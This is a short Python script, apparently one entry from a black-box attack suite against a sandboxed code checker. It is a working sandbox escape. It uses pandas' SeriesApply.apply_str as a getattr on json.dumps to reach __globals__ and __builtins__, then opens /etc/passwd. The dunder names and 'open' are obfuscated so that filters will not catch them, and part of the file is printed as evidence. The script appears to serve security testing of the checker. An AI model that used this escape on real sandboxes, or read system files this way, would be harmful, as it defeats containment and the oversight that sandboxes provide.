# source: black-box attack on sandexec check (attack12, 2026-11-26), family: 2 pandas internals (pd.core)
# source: own; pandas 1.5.3 pandas/core/apply.py Apply.apply_str/_try_aggregate_string_function (getattr(obj, name)); README admits string dispatch is not refused
# family: pandas string dispatch as getattr on an arbitrary object
# goal: json.dumps.__globals__ -> builtins -> open /etc/passwd
import json
import pandas as pd

u = chr(95) * 2
op = pd.core.apply.SeriesApply(json.dumps, u + "globals" + u, False, (), {})
g = op.apply_str()
b = g[u + "builtins" + u]
f = b["op" + "en"](chr(47) + "etc" + chr(47) + "passwd")
print(json.dumps({"evidence": f.read()[:120]}))
